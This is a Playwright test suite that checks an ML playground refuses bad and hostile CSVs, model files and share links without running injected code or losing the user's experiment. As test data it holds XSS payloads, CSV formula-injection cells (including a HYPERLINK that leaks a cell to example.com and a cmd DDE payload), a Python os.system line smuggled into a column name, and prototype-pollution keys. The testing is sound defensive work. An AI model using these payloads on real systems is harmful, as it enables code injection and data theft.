import { readFile, writeFile } from 'node:fs/promises';
import { expect, test, type Page } from '@playwright/test';
import { openPlayground, stopIfRunning, waitForEpoch } from './helpers';

/**
 * The bad-input corpus (e2e/fixtures/bad-input/) driven through the UI as a
 * person would: files picked with "Load CSV…" and "Import model", links
 * opened in the address bar. Each item must give a message naming its
 * problem, leave the experiment that was on screen as it was, leave Train
 * working, and run none of the markup it carries: every payload tries to set
 * `window.__pwned`.
 */

const corpus = 'e2e/fixtures/bad-input';

/** Page errors, CSP reports and requests that would only happen if markup from the data had become DOM. */
interface Watch {
  errors: string[];
  injectedRequests: string[];
}

async function watchPage(page: Page): Promise<Watch> {
  const watch: Watch = { errors: [], injectedRequests: [] };
  page.on('pageerror', (error) => watch.errors.push(error.message));
  // `<img src=x>` from the corpus, had it been rendered as HTML, would fetch /x.
  page.on('request', (request) => {
    if (new URL(request.url()).pathname === '/x') watch.injectedRequests.push(request.url());
  });
  // The page's CSP would block an injected inline handler; its report shows the injection happened.
  await page.addInitScript(() => {
    const reports: string[] = [];
    Object.defineProperty(window, '__cspReports', { value: reports });
    document.addEventListener('securitypolicyviolation', (event) => reports.push(`${event.violatedDirective} ${event.blockedURI}`));
  });
  return watch;
}

/** Nothing ran, nothing was injected, nothing threw, nothing was polluted. */
async function expectNothingRan(page: Page, watch: Watch): Promise<void> {
  const seen = await page.evaluate(() => ({
    pwned: (window as unknown as { __pwned?: unknown }).__pwned,
    polluted: (Object.prototype as Record<string, unknown>).polluted,
    csp: (window as unknown as { __cspReports: string[] }).__cspReports,
    injected: document.querySelectorAll('[onerror], [onload], [onclick], iframe, script:not([src]), a[href^="javascript:" i], img[src="x"]').length,
  }));
  expect(seen.pwned, 'window.__pwned').toBeUndefined();
  expect(seen.polluted, 'Object.prototype.polluted').toBeUndefined();
  expect(seen.csp, 'CSP violations').toEqual([]);
  expect(seen.injected, 'elements made from markup in the data').toBe(0);
  expect(watch.injectedRequests, 'requests for injected images').toEqual([]);
  expect(watch.errors, 'page errors').toEqual([]);
}

/** What a person sees of their experiment: it must be the same after refused input. */
async function experimentOnScreen(page: Page) {
  return {
    dataset: await page.getByRole('combobox', { name: 'Dataset' }).inputValue(),
    learningRate: await page.getByRole('slider', { name: 'Learning rate' }).getAttribute('aria-valuetext'),
    earlyStopping: await page.getByRole('checkbox', { name: 'Early stopping' }).isChecked(),
    layers: await page.getByRole('list', { name: 'Layers' }).textContent(),
  };
}

/** Changes the default experiment in three visible ways, so that losing any of them shows. */
async function makeExperiment(page: Page, dataset: string): Promise<void> {
  await page.getByRole('combobox', { name: 'Dataset' }).selectOption(dataset);
  await expect(page.getByRole('button', { name: 'Train' })).toBeEnabled();
  await page.getByRole('slider', { name: 'Learning rate' }).focus();
  await page.keyboard.press('ArrowLeft');
  await page.getByRole('checkbox', { name: 'Early stopping' }).check();
  await page.getByRole('combobox', { name: 'Layer type' }).selectOption('dropout');
  await page.getByRole('button', { name: 'Add layer' }).click();
}

/** Train still starts: one epoch, then stop. */
async function expectTrainWorks(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Train' }).click();
  await waitForEpoch(page, 1);
  await stopIfRunning(page);
}

const notText = 'This file does not look like text, so it cannot be a CSV.';

/** Each refused CSV of the corpus and the message that names its problem. */
const refusedCsvs: [file: string, message: string][] = [
  ['ragged.csv', 'Row 3 has 2 cells; the first row has 3.'],
  ['header-only.csv', 'The file has a header row but no data rows.'],
  ['empty.csv', 'The file is empty.'],
  ['one-row.csv', 'The file has only one row of data; a model needs many rows to learn from'],
  ['unterminated-quote.csv', 'Row 2 has a quote that is never closed.'],
  ['no-numbers.csv', 'No column can be predicted: "name" and "comment" hold text with more than 50 different values'],
  ['nul-bytes.csv', notText],
  ['picture-png.csv', notText],
  ['archive-zip.csv', notText],
];

/** Each refused model file of the corpus and the message that names its problem. */
const refusedModels: [file: string, message: string][] = [
  ['wrong-shapes.json', 'The weights do not match the model: "dense/kernel" has shape [3, 1], but layer 1 needs [2, 1].'],
  ['missing-weights.json', 'The weights do not match the model: it needs 2 weight tensors, the file has 0.'],
  ['short-weights.json', 'The weights do not match the model: it needs 12 bytes of weights, the file has 4.'],
  ['no-weight-data.json', 'The model file is not valid: "weightData" is missing.'],
  ['unknown-layer.json', 'Layer 1 (Lambda): the playground cannot build a Lambda layer'],
  ['markup-layer.json', 'Layer 1 (<img src=x onerror="window.__pwned=1">): the playground cannot build a <img src=x onerror="window.__pwned=1"> layer'],
  ['billion-units.json', 'Layer 1 has 1,000,000,000 units; the playground allows at most 4,096.'],
  ['too-many-layers.json', 'The model has 65 layers; the playground builds at most 64.'],
  ['absurd-config.json', 'The model file is not valid: "playground.config.learningRate" must be at most 10.'],
  ['proto-key.json', 'The file contains the key "__proto__", which is never part of a model; it was not loaded.'],
  ['constructor-key.json', 'The file contains the key "constructor", which is never part of a model; it was not loaded.'],
  ['not-json.json', 'The file is not JSON.'],
  ['truncated.json', 'The file is not JSON. It stops in the middle, as if it was cut off while saving or downloading'],
];

async function importModel(page: Page, path: string): Promise<void> {
  const chooser = page.waitForEvent('filechooser');
  await page.getByRole('button', { name: 'Import model' }).click();
  await (await chooser).setFiles(path);
}

const base64url = (text: string): string => Buffer.from(text).toString('base64url');

test.describe('bad input never breaks the page or loses the experiment', () => {
  test('malformed, binary and oversized CSVs are refused by name; the experiment stays and trains', async ({ page }, testInfo) => {
    const watch = await watchPage(page);
    await openPlayground(page, '?backend=wasm');
    await makeExperiment(page, 'moons');
    const before = await experimentOnScreen(page);

    for (const [file, message] of refusedCsvs) {
      await page.getByLabel('Load CSV…').setInputFiles(`${corpus}/csv/${file}`);
      await expect(page.getByRole('alert').filter({ hasText: `${file}:` }), file).toContainText(`${file}: ${message}`);
      expect(await experimentOnScreen(page), file).toEqual(before);
      await expect(page.getByRole('button', { name: 'Train' }), file).toBeEnabled();
    }

    // 50 MB, made here rather than kept in the repository: refused by its size, without being read.
    const huge = testInfo.outputPath('huge.csv');
    await writeFile(huge, Buffer.alloc(50 * 1024 * 1024, 'x1,x2,y\n0.5,1.5,2\n'));
    const started = Date.now();
    await page.getByLabel('Load CSV…').setInputFiles(huge);
    await expect(page.getByRole('alert').filter({ hasText: 'huge.csv:' })).toContainText(
      'huge.csv: The file is 50.0 MB; the playground reads CSV files of at most 20 MB.',
    );
    expect(Date.now() - started, 'milliseconds to refuse 50 MB').toBeLessThan(5_000);
    expect(await experimentOnScreen(page)).toEqual(before);

    await expectTrainWorks(page);
    await expectNothingRan(page, watch);
  });

  test('markup in CSV headers, cells and the file name is shown as text and never runs', async ({ page }) => {
    const watch = await watchPage(page);
    await openPlayground(page, '?backend=wasm');
    const name = '<img src=x onerror="window.__pwned=1">.csv';
    await page.getByLabel('Load CSV…').setInputFiles({ name, mimeType: 'text/csv', buffer: await readFile(`${corpus}/csv/markup.csv`) });

    const columns = page.getByRole('group', { name: `Columns of ${name}` });
    await expect(columns).toBeVisible();
    await expect(page.getByRole('combobox', { name: 'Dataset' })).toHaveValue('custom');
    const table = columns.getByRole('table', { name: 'Columns' });
    for (const header of ['<img src=x onerror="window.__pwned=1">', '<script>window.__pwned=1</script>', 'kind', 'label']) {
      await expect(table.getByRole('cell', { name: header, exact: true }), header).toBeVisible();
    }
    await expect(columns.getByRole('combobox', { name: 'Task' })).toHaveValue('binary');

    await page.getByText('Preview and statistics').click();
    const preview = page.getByRole('table', { name: 'Data preview' });
    await expect(preview.getByRole('columnheader', { name: 'kind=<a href="javascript:window.__pwned=1">link</a>', exact: true })).toBeVisible();
    await expect(preview.getByRole('columnheader', { name: 'kind=<b>bold</b>', exact: true })).toBeVisible();
    await expect(preview.getByRole('cell', { name: '<svg onload="window.__pwned=1">', exact: true }).first()).toBeVisible();
    await expect(preview.getByRole('cell', { name: '<iframe src="javascript:window.__pwned=1">', exact: true }).first()).toBeVisible();

    await expectTrainWorks(page);
    await expectNothingRan(page, watch);
  });

  test('formula cells are text categories, and the Keras script carries them only as quoted strings', async ({ page }) => {
    const watch = await watchPage(page);
    await openPlayground(page, '?backend=wasm');
    await page.getByLabel('Load CSV…').setInputFiles(`${corpus}/csv/formulas.csv`);
    const columns = page.getByRole('group', { name: 'Columns of formulas.csv' });
    // The target's name holds a line break and a line of Python.
    const target = 'label\nimport os; os.system("echo pwned")';
    await expect(columns.getByRole('combobox', { name: 'Target' })).toHaveValue(target);
    await expect(columns.getByRole('combobox', { name: 'Task' })).toHaveValue('binary');
    await expect(columns.getByRole('row', { name: /^note text \(4 values\)/ })).toBeVisible();

    await page.getByText('Preview and statistics').click();
    const preview = page.getByRole('table', { name: 'Data preview' });
    await expect(preview.getByRole('columnheader', { name: 'note==HYPERLINK("http://example.com/?leak="&A1,"Click me")', exact: true })).toBeVisible();
    await expect(preview.getByRole('columnheader', { name: "note=+cmd|' /C calc'!A0", exact: true })).toBeVisible();
    await expect(preview.getByRole('cell', { name: '=1+1', exact: true }).first()).toBeVisible();
    await expect(preview.getByRole('cell', { name: '@SUM(1+1)', exact: true }).first()).toBeVisible();

    await page.getByRole('button', { name: 'Step' }).click();
    await expect(page.getByRole('status')).toHaveText(/^Paused\. Epoch 1\//);
    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export Keras script' }).click();
    const script = await readFile(await (await downloading).path(), 'utf8');
    const lines = script.split('\n');
    expect(lines.filter((line) => /^\s*(import os|[=+\-@])/.test(line)), 'lines that a name from the file turned into code').toEqual([]);
    expect(script).toContain('# Task: binary; target: label import os; os.system("echo pwned"); one-hot encoded: note.');
    expect(script).toContain(`y = df.pop(${JSON.stringify(target)})`);
    expect(script).toMatch(/^classes = \[("=1\+1", "@SUM\(1\+1\)"|"@SUM\(1\+1\)", "=1\+1")\]$/m);
    expect(script).toContain(JSON.stringify("note=+cmd|' /C calc'!A0"));

    await page.getByRole('button', { name: 'Train' }).click();
    await waitForEpoch(page, 2);
    await stopIfRunning(page);
    await expectNothingRan(page, watch);
  });

  test('broken and hostile model files are refused by name; the experiment stays and trains', async ({ page }) => {
    const watch = await watchPage(page);
    await openPlayground(page, '?backend=wasm');
    await makeExperiment(page, 'wine');
    const before = await experimentOnScreen(page);
    const summary = await page.getByRole('table', { name: 'Model summary' }).textContent();

    for (const [file, message] of refusedModels) {
      await importModel(page, `${corpus}/model/${file}`);
      await expect(page.getByRole('alert').filter({ hasText: `${file}:` }), file).toContainText(`${file}: ${message}`);
      expect(await experimentOnScreen(page), file).toEqual(before);
      expect(await page.getByRole('table', { name: 'Model summary' }).textContent(), file).toBe(summary);
      await expect(page.getByRole('status'), file).toHaveText('Ready. Press Train to start.');
    }

    await expectTrainWorks(page);
    await expectNothingRan(page, watch);
  });

  test('hostile and broken links are reported and ignored; the saved experiment stays and trains', async ({ page }) => {
    const watch = await watchPage(page);
    await openPlayground(page, '?backend=wasm');
    await makeExperiment(page, 'xor');
    const before = await experimentOnScreen(page);
    // A real link of this experiment, to bend into hostile ones.
    await page.getByRole('button', { name: 'Copy link' }).click();
    const copied = await page.getByRole('textbox', { name: 'Link to this experiment' }).inputValue();
    const good = Buffer.from(new URL(copied).hash.slice('#e='.length), 'base64url').toString('utf8');
    const snapshot = JSON.parse(good) as { dataset: string; layers: Record<string, unknown>[]; config: Record<string, unknown> };
    const bent = (patch: (s: typeof snapshot) => unknown): string => base64url(JSON.stringify(patch(structuredClone(snapshot))));
    const withConfig = (config: Record<string, unknown>) => bent((s) => ({ ...s, config: { ...s.config, ...config } }));

    const links: [what: string, encoded: string, reason: string][] = [
      ['not base64', '%%%not*base64!!', 'it is not encoded as the playground encodes links'],
      ['base64 of a script, not JSON', base64url('<script>window.__pwned=1</script>'), 'it is not valid JSON'],
      ['a __proto__ key', base64url(`{"__proto__":{"polluted":"yes"},${good.slice(1)}`), 'it contains a key that is never part of an experiment'],
      ['markup as the dataset id', bent((s) => ({ ...s, dataset: '<img src=x onerror="window.__pwned=1">' })), '"dataset" is not one the playground has'],
      ['a script as an activation', bent((s) => ({ ...s, layers: [{ ...s.layers[0], activation: '<script>window.__pwned=1</script>' }] })), '"layers.0.activation" must be one of "relu"'],
      ['a javascript: URL as a layer kind', bent((s) => ({ ...s, layers: [{ kind: 'javascript:window.__pwned=1' }] })), '"layers.0.kind" is not one the playground has'],
      ['learning rate 1e308', withConfig({ learningRate: 1e308 }), '"config.learningRate" must be at most 10'],
      ['10^12 epochs', withConfig({ epochs: 1e12 }), '"config.epochs" must be at most 10,000'],
      ['a negative batch size', withConfig({ batchSize: -32 }), '"config.batchSize" must be at least 1'],
      ['400 KB', 'A'.repeat(400_000), 'it is 400,000 characters long; a playground link carries at most 20,000'],
    ];
    for (const [what, encoded, reason] of links) {
      // A fresh load each time, as opening a link does (a changed hash alone does not reload).
      await page.goto('about:blank');
      await page.goto(`/?backend=wasm#e=${encoded}`);
      await expect(page.getByRole('alert').filter({ hasText: "The link's experiment" }), what).toContainText(
        `The link's experiment could not be used (${reason}`,
      );
      await expect(page.getByRole('button', { name: 'Train' }), what).toBeEnabled();
      expect(await experimentOnScreen(page), what).toEqual(before);
      await expectNothingRan(page, watch);
    }

    // Unknown fields and markup in layer ids are dropped: the link's experiment itself loads, and nothing runs.
    const decorated = bent((s) => ({
      ...s,
      dataset: 'spiral',
      note: '<svg onload="window.__pwned=1">',
      layers: s.layers.map((layer) => ({ ...layer, id: '<img src=x onerror="window.__pwned=1">', name: '<script>window.__pwned=1</script>' })),
    }));
    await page.goto('about:blank');
    await page.goto(`/?backend=wasm#e=${decorated}`);
    await expect(page.getByRole('combobox', { name: 'Dataset' })).toHaveValue('spiral');
    await expect(page.getByRole('alert')).toHaveCount(0);
    expect((await experimentOnScreen(page)).layers).toBe(before.layers);

    await expectTrainWorks(page);
    await expectNothingRan(page, watch);
  });
});

/** A one-file model of Dense(3) on 8 inputs then Dense(1), with `bad` written over some of its 31 weights. */
function modelWithWeights(bad: Record<number, number>): { json: Record<string, unknown>; weights: Float32Array } {
  const specs = [
    { name: 'dense_1/kernel', shape: [8, 3], dtype: 'float32' },
    { name: 'dense_1/bias', shape: [3], dtype: 'float32' },
    { name: 'dense_2/kernel', shape: [3, 1], dtype: 'float32' },
    { name: 'dense_2/bias', shape: [1], dtype: 'float32' },
  ];
  const weights = new Float32Array(31).map((_, i) => Math.sin(i) / 2);
  for (const [at, value] of Object.entries(bad)) weights[Number(at)] = value;
  const json = {
    format: 'layers-model',
    modelTopology: {
      class_name: 'Sequential',
      config: {
        layers: [
          { class_name: 'Dense', config: { name: 'dense_1', units: 3, activation: 'relu', batch_input_shape: [null, 8] } },
          { class_name: 'Dense', config: { name: 'dense_2', units: 1, activation: 'linear' } },
        ],
      },
    },
    weightSpecs: specs,
    weightData: Buffer.from(weights.buffer).toString('base64'),
  };
  return { json, weights };
}

const csvFile = (name: string, text: string) => ({ name, mimeType: 'text/csv', buffer: Buffer.from(text) });

test.describe('bad input of each class, made at test time', () => {
  test('a model with NaN or infinite weights is refused, naming the layer and weight; the experiment stays', async ({ page }) => {
    const watch = await watchPage(page);
    await openPlayground(page, '?backend=wasm');
    await makeExperiment(page, 'wine');
    const before = await experimentOnScreen(page);
    const summary = await page.getByRole('table', { name: 'Model summary' }).textContent();
    const choose = async (files: { name: string; mimeType: string; buffer: Buffer }[]) => {
      const chooser = page.waitForEvent('filechooser');
      await page.getByRole('button', { name: 'Import model' }).click();
      await (await chooser).setFiles(files);
    };

    const nan = modelWithWeights({ 2: Number.NaN, 7: Number.NaN, 20: Number.NaN });
    await choose([{ name: 'nan-weights.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(nan.json)) }]);
    await expect(page.getByRole('alert').filter({ hasText: 'nan-weights.json:' })).toContainText(
      'nan-weights.json: Layer dense_1, weight kernel: 3 of 24 values are not finite numbers (NaN).',
    );
    expect(await experimentOnScreen(page)).toEqual(before);
    expect(await page.getByRole('table', { name: 'Model summary' }).textContent()).toBe(summary);
    await expect(page.getByRole('status')).toHaveText('Ready. Press Train to start.');

    // The model.json + weights.bin pair, with an infinite bias.
    const { weightSpecs, weightData: _inline, ...rest } = modelWithWeights({}).json;
    const infinite = modelWithWeights({ 30: Number.NEGATIVE_INFINITY });
    await choose([
      { name: 'model.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify({ ...rest, weightsManifest: [{ paths: ['weights.bin'], weights: weightSpecs }] })) },
      { name: 'weights.bin', mimeType: 'application/octet-stream', buffer: Buffer.from(infinite.weights.buffer) },
    ]);
    await expect(page.getByRole('alert').filter({ hasText: 'model.json:' })).toContainText(
      'model.json: Layer dense_2, weight bias: 1 of 1 value is not a finite number (-Infinity).',
    );
    expect(await experimentOnScreen(page)).toEqual(before);

    // JSON nested 100,000 levels deep is JSON, too deeply nested: said so, not "not JSON".
    await choose([{ name: 'deep.json', mimeType: 'application/json', buffer: Buffer.from(`${'['.repeat(100_000)}${']'.repeat(100_000)}`) }]);
    await expect(page.getByRole('alert').filter({ hasText: 'deep.json:' })).toContainText('deep.json: The file is JSON, but nested too deeply');
    expect(await experimentOnScreen(page)).toEqual(before);

    await expectTrainWorks(page);
    await expectNothingRan(page, watch);
  });

  test('a CSV with Infinity cells keeps its numeric column, and the planner counts them', async ({ page }) => {
    const watch = await watchPage(page);
    await openPlayground(page, '?backend=wasm');
    const spellings = ['Infinity', '-Infinity', '1e309', 'inf'];
    const rows = Array.from({ length: 60 }, (_, i) => `${i % 7},${i % 15 === 3 ? spellings[(i - 3) / 15] : (i / 10).toFixed(1)},${(i % 7) + (3 * i) / 10}`);
    await page.getByLabel('Load CSV…').setInputFiles(csvFile('infinite.csv', `x1,x2,y\n${rows.join('\n')}\n`));

    const columns = page.getByRole('group', { name: 'Columns of infinite.csv' });
    await expect(columns.getByRole('row', { name: /^x2 number 4\b/ })).toBeVisible();
    await expect(columns.getByRole('checkbox', { name: 'Use x2 as a feature' })).toBeChecked();
    await expect(columns).toContainText('"x2": 4 cells hold Infinity or a number too large to use (such as 1e309), counted as missing.');
    await expect(columns).toContainText('4 rows with missing values dropped');
    await columns.getByRole('combobox', { name: 'Missing values' }).selectOption('mean');
    await expect(columns).toContainText('4 missing cells filled with the training mean');
    await expect(page.getByRole('alert')).toHaveCount(0);

    await page.getByRole('button', { name: 'Step' }).click();
    await expect(page.getByRole('status')).toHaveText(/^Paused\. Epoch 1\//);
    await expectNothingRan(page, watch);
  });

  test('a CSV of nothing but missing markers is refused as having no values at all', async ({ page }) => {
    await openPlayground(page, '?backend=wasm');
    await makeExperiment(page, 'moons');
    const before = await experimentOnScreen(page);
    const markers = ['NA', '', '?', 'NaN', 'null', 'Infinity', '-', 'n/a', '#N/A', '-inf'];
    const rows = Array.from({ length: 40 }, (_, i) => [0, 1, 2].map((c) => markers[(i + c * 3) % markers.length]).join(','));
    await page.getByLabel('Load CSV…').setInputFiles(csvFile('all-missing.csv', `a,b,c\n${rows.join('\n')}\n`));
    await expect(page.getByRole('alert').filter({ hasText: 'all-missing.csv:' })).toContainText(
      'all-missing.csv: The file has no values at all: every cell is empty, a marker of a missing value (such as NA, NaN or ?), or not a finite number (such as Infinity).',
    );
    await expect(page.getByRole('alert').filter({ hasText: 'all-missing.csv:' })).not.toContainText('more than 50');
    expect(await experimentOnScreen(page)).toEqual(before);
    await expectTrainWorks(page);
  });
});
